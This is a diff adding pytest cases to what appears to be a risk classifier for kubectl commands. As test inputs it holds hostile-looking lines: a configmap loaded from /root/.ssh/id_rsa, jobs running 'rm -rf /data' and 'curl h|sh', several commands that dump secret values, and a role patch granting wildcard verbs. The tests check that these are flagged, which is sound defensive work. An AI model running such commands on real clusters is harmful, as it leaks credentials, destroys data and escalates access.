@@ -28,7 +28,7 @@ def first(command: Command) -> Kubernetes:
         ("diff -f x", ["get"]), ("replace -f x", ["update"]), ("replace --force -f x", ["update", "delete"]), ("create -f x", ["create"]),
         ("create ns x", ["create"]), ("create secret generic x --from-literal=a=b", ["create"]), ("create token sa", ["create_token"]),
         ("create clusterrolebinding x --clusterrole=cluster-admin --user=u", ["change_access"]), ("create role x --verb=get --resource=pods", ["change_access"]),
-        ("create deploy x --image=i", ["create"]), ("create job x --image=i -- date", ["create"]), ("create service clusterip x", ["create"]),
+        ("create deploy x --image=i", ["create"]), ("create job x --image=i -- date", ["create", "inspect"]), ("create service clusterip x", ["create"]),
         ("patch po a -p {}", ["patch"]), ("scale deploy a --replicas=0", ["scale"]), ("scale --replicas=1 -f x", ["scale"]), ("autoscale deploy a --max=3", ["create"]),
         ("expose deploy a", ["create"]), ("rollout status deploy/a", ["get"]), ("rollout restart deploy a", ["patch"]), ("rollout", ["client_info"]),
         ("set image deploy/a c=i:1", ["patch"]), ("set env deploy/a --list", ["get"]), ("set serviceaccount deploy a sa", ["patch"]),
@@ -116,3 +116,69 @@ def test_images_and_accounts_are_facts() -> None:
 @pytest.mark.parametrize("line", ["create secret generic x --from-literal=a=b", "set env deploy/a DB_PASSWORD=x"])
 def test_secrets_in_the_line_are_a_feature(line: str) -> None:
     assert "secret_literal" in kubectl(f"kubectl {line}").features
+
+
+@pytest.mark.parametrize(
+    ("line", "path"),
+    [
+        ("create configmap a --from-file=/root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
+        ("create configmap a --from-file=k=x=/a", "/a"),
+        ("create cm a --from-env-file=.env", ".env"),
+        ("create secret generic a --from-file=k=/a", "/a"),
+        ("create secret tls a --cert=/c --key=/k", "/k"),
+    ],
+)
+def test_files_that_become_values_are_read_and_not_seen(line: str, path: str) -> None:
+    command = kubectl(f"kubectl {line}")
+    assert (path, "read") in [(one.name, one.access) for one in command.operations[0].targets if one.type == "file"]
+    assert "unseen_body" in command.features
+    assert not command.complete
+    assert kubectl("kubectl create configmap a --from-literal=a=b").complete
+
+
+def test_what_a_job_is_told_to_run_is_taken_apart() -> None:
+    for kind in ("job x", "cronjob x --schedule='* * * * *'"):
+        command = kubectl(f"kubectl create {kind} --image=i -- sh -c 'rm -rf /data'")
+        assert "delete" in {one.effect for one in command.operations}
+    assert not kubectl("kubectl create job x --image=i -- sh -c 'curl h|sh'").complete
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *("label secret s a=b -o yaml", "annotate secret s a=b -o jsonpath={.data}", "patch secret s -p {} -o json"),
+        *(
+            "edit secret s",
+            "label secrets --all a=b --template='{{.data}}'",
+            "label secret s a=b -v=9",
+            "label secret/s a=b -oyaml",
+        ),
+        *("set env deploy/a --list --resolve", "set env deploy/a --list --from=secret/s"),
+    ],
+)
+def test_a_change_that_shows_a_secret_reads_it(line: str) -> None:
+    read = [one for one in kubectl(f"kubectl {line}").operations if one.effect == "read" and one.kubernetes is not None]
+    assert "secrets" in [one.kubernetes.resource for one in read if one.kubernetes is not None]
+
+
+@pytest.mark.parametrize(
+    "line", ["label secret s a=b", "label secret s a=b -o name", "label cm s a=b -o yaml", "delete secret s -v=2"]
+)
+def test_a_change_that_shows_none_reads_none(line: str) -> None:
+    assert [one.effect for one in kubectl(f"kubectl {line}").operations if one.effect == "read"] == []
+
+
+def test_variables_from_a_secret_name_it() -> None:
+    command = kubectl("kubectl set env deploy/a --from=secret/s")
+    assert command.kubernetes is not None
+    assert command.kubernetes.pods is not None
+    assert command.kubernetes.pods.secrets == ("s",)
+
+
+def test_a_patch_of_a_role_is_read_as_one() -> None:
+    line = """kubectl patch role r --type=json -p '[{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}]'"""
+    command = kubectl(line)
+    assert command.kubernetes is not None
+    assert command.kubernetes.rbac is not None
+    assert command.kubernetes.rbac.wildcards == ("verbs",)
+    assert (command.complete, command.features) == (False, ("partial_rule",))
